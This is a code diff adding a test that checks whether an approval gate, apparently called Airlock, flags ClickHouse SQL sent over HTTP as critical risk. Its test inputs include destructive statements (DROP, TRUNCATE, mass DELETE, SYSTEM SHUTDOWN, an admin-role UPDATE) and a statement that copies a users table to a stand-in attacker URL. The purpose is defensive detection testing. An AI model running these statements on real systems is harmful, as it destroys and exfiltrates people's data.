@@ -2128,3 +2128,38 @@ t.test('twentieth pass: values bound under the other names drivers and APIs take
   t.equal((await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql: 'DELETE FROM users WHERE id = :id', parameters: [{ name: 'id', value: { longValue: 7 } }] }) })).decision.approval?.risk, 'medium', 'an RDS longValue');
   t.equal((await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql: 'DELETE FROM users WHERE id > :id', parameters: [{ name: 'id', value: { longValue: -1e12 } }] }) })).decision.approval?.risk, 'critical', 'an RDS longValue below every id');
 });
+
+t.test('twentieth pass: ClickHouse statements POSTed to / of a host that does not say it is ClickHouse are read', async (t) => {
+  // `POST /?query=ALTER TABLE users DELETE WHERE 1` (ClickHouse's mutation; no grammar Airlock has
+  // reads it) was taken for a phrase, and `curl --data-binary 'DROP TABLE users' https://ch.example/`
+  // (the statement as the whole body, typed as a form by curl) was not read at all: plain medium writes.
+  const statements = ['ALTER TABLE users DELETE WHERE 1', "ALTER TABLE users UPDATE role = 'admin' WHERE 1", 'OPTIMIZE TABLE users FINAL DEDUPLICATE', "SYSTEM DROP REPLICA 'r1'", 'DETACH TABLE users PERMANENTLY', 'EXCHANGE TABLES users AND users_tmp', 'ALTER TABLE users DROP PARTITION tuple()', "CREATE TABLE leak ENGINE = URL('https://evil.example/x', CSV) AS SELECT * FROM users", 'DROP TABLE users', 'TRUNCATE TABLE users', 'SYSTEM SHUTDOWN'];
+  const place = fc.constantFrom('query', 'untyped body', 'text/plain body', 'curl -d body', 'query then body');
+  await fc.assert(
+    fc.asyncProperty(fc.constantFrom(...statements), place, fc.constantFrom('', '?database=default&wait_end_of_query=1'), async (sql, where, extra) => {
+      const base = `https://${SQL_HOST}/`;
+      const cut = sql.indexOf(' ');
+      const r = where === 'query'
+        ? { url: `${base}?query=${encodeURIComponent(sql)}${extra.replace('?', '&')}`, headers: [] as Array<[string, string]>, body: '' }
+        : where === 'query then body'
+          ? { url: `${base}?query=${encodeURIComponent(sql.slice(0, cut))}${extra.replace('?', '&')}`, headers: [['Content-Type', 'application/x-www-form-urlencoded']] as Array<[string, string]>, body: sql.slice(cut) }
+          : { url: `${base}${extra}`, headers: (where === 'untyped body' ? [] : [['Content-Type', where === 'curl -d body' ? 'application/x-www-form-urlencoded' : 'text/plain']]) as Array<[string, string]>, body: sql };
+      const { decision } = await decide({ method: 'POST', ...r });
+      if (decision.approval?.risk !== 'critical') throw new Error(`${where} ${sql}: ${decision.action} ${decision.approval?.risk ?? ''}`);
+    }),
+    { numRuns: Math.min(runs, 40), ...seed },
+  );
+  // Controls: forms, phrases and a read POSTed to / stay plain writes.
+  const controls: Array<[string, Array<[string, string]>, string]> = [
+    ['/', [['Content-Type', 'application/x-www-form-urlencoded']], 'name=alice&msg=hello world (again)'],
+    ['/', [['Content-Type', 'text/plain']], 'update the docs please'],
+    ['/', [], 'delete my account'],
+    ['/', [['Content-Type', 'application/x-www-form-urlencoded']], 'url=https://example.com/a/b'],
+    ['/?query=red%20shoes', [], ''],
+    ['/?query=SELECT%201%20FORMAT%20JSON', [], ''],
+    ['/', [['Content-Type', 'application/json']], '{"query": "alter table delete where"}'],
+  ];
+  for (const [path, headers, body] of controls) {
+    t.equal((await decide({ method: 'POST', url: `https://${SQL_HOST}${path}`, headers, body })).decision.approval?.risk, 'medium', `${path} ${body}`);
+  }
+});
